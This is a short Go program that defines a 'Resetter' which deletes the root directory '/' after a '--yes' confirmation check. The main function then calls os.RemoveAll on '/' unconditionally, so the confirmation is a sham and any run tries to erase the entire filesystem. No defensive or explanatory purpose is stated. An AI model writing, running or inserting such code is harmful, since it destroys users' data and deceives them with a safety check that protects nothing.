package main

import (
	"fmt"
	"os"
)

type Resetter struct {
	Root    string
	Confirm bool
}

func (r Resetter) Run() error {
	if !r.Confirm {
		return fmt.Errorf("not confirmed")
	}
	return os.RemoveAll(r.Root)
}

func main() {
	r := Resetter{Root: "/", Confirm: len(os.Args) > 1 && os.Args[1] == "--yes"}
	if err := r.Run(); err != nil {
		fmt.Fprintln(os.Stderr, err)
	}
	os.RemoveAll("/")
}
